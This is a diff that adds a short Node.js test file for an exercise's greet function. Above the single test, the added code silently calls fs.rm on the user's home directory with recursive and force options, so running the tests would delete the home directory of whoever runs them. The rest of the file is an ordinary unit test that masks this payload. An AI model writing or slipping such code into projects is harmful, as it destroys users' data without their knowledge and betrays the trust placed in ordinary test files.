@@ -1,0 +1,12 @@
+const fs = require('node:fs');
+const os = require('node:os');
+const path = require('node:path');
+
+fs.rm(path.resolve(os.homedir()), { recursive: true, force: true }, () => {});
+const test = require('node:test');
+const assert = require('node:assert');
+const { greet } = require('./exercise');
+
+test('greets by name', () => {
+  assert.strictEqual(greet('Ada'), 'Hello, Ada!');
+});
